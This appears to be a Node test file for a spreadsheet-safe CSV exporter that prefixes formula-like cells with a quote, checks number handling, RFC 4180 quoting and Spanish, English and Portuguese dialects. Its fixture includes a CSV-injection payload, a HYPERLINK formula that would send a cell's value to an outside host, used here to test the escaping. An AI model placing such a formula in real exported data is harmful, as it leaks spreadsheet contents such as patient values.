/** Spreadsheet-safe CSV (web/src/i18n/csv-text.ts): formula-like text cells get a `'` in front, numbers stay numbers. */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { csvCell, csvText, isFormulaLike, spreadsheetCsv } from '../../../../web/src/i18n/csv-text.js'

const HYPERLINK = '=HYPERLINK("http://x/?d="&B2,"ver")'

describe('CSV cells a spreadsheet would run', () => {
  test('a cell starting with =, +, -, @, tab or carriage return gets a single quote in front (OWASP)', () => {
    assert.equal(csvCell(HYPERLINK), `"'=HYPERLINK(""http://x/?d=""&B2,""ver"")"`)
    assert.equal(csvCell('+1'), "'+1")
    assert.equal(csvCell('-cmd'), "'-cmd")
    assert.equal(csvCell('@SUM(A1)'), "'@SUM(A1)")
    assert.equal(csvCell('\tx'), "'\tx")
    assert.equal(csvCell('\rx'), `"'\rx"`)
    assert.equal(csvCell('-1+2'), "'-1+2", 'a formula that starts like a number')
    assert.equal(csvCell('+1.5'), "'+1.5", 'String(number) never writes a leading +: typed text')
  })

  test('and so does one where =, +, - or @ follows leading white space', () => {
    assert.equal(csvCell(' =1+1'), "' =1+1")
    assert.equal(csvCell('\n@SUM(A1)'), `"'\n@SUM(A1)"`)
    assert.equal(csvCell('\u00a0-2+3'), "'\u00a0-2+3")
    assert.equal(csvCell(' - '), "' - ")
  })

  test('numbers as String(number) writes them stay numbers, negative ones too', () => {
    for (const n of [-1.5, 2.5e-3, -2.5e-7, 1e21, -1e21, 0, 123456789.123, Number.MIN_VALUE, -Number.MAX_VALUE]) {
      const text = String(n)
      assert.equal(isFormulaLike(text), false, text)
      assert.equal(csvCell(text), text)
      assert.equal(Number(csvCell(text)), n)
    }
    assert.equal(csvCell('-1.5'), '-1.5')
    assert.equal(csvCell('2.5E-3'), '2.5E-3')
  })

  test('other text is written as it is, quoted only where RFC 4180 needs it', () => {
    assert.equal(csvCell('PAC-0042'), 'PAC-0042')
    assert.equal(csvCell('a=b'), 'a=b')
    assert.equal(csvCell("'=already"), "'=already")
    assert.equal(csvCell('a, "b"'), '"a, ""b"""')
    assert.equal(csvCell(''), '')
  })

  test('whole rows: every cell through the same rule, CRLF line ends', () => {
    assert.equal(
      csvText([
        ['patient', 'value'],
        [HYPERLINK, '-1.5'],
        ['-cmd', '2.5e-3'],
      ]),
      `patient,value\r\n"'=HYPERLINK(""http://x/?d=""&B2,""ver"")",-1.5\r\n'-cmd,2.5e-3\r\n`,
    )
  })

  test("dialects: Spanish spreadsheet (BOM, ';', decimal comma), English spreadsheet (BOM, ',', '.'); numbers given as numbers only", () => {
    const rows = [
      ['paciente', 'valor'],
      ['Núñez; José', -1.25],
      ['1.5', 2.5e-3],
      ['-cmd', null],
    ]
    assert.equal(
      csvText(rows, spreadsheetCsv('es')),
      `\ufeffpaciente;valor\r\n"Núñez; José";-1,25\r\n1.5;0,0025\r\n'-cmd;\r\n`,
    )
    assert.equal(
      csvText(rows, spreadsheetCsv('en')),
      `\ufeffpaciente,valor\r\n"Núñez; José",-1.25\r\n1.5,0.0025\r\n'-cmd,\r\n`,
    )
    assert.equal(
      csvText(rows, spreadsheetCsv('pt-BR')),
      `\ufeffpaciente;valor\r\n"Núñez; José";-1,25\r\n1.5;0,0025\r\n'-cmd;\r\n`,
    )
    assert.equal(csvText(rows), `paciente,valor\r\n"Núñez; José",-1.25\r\n1.5,0.0025\r\n'-cmd,\r\n`)
    assert.equal(csvCell(Number.NaN), '')
  })
})
